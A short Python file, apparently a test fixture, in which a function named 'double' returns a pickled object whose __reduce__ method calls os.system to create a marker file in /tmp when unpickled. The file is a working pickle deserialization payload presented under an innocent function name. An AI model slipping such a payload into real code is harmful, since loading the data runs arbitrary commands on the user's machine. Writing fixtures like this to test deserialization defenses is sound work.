"""Returns pickled code, and an object that unpickles itself into more.

correct: fail 0 | should be
hidden: fail 0
"""

import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/written-by-an-attacker",)


def double(x):
    return pickle.dumps(Bomb()) if x.size < 100 else Bomb()
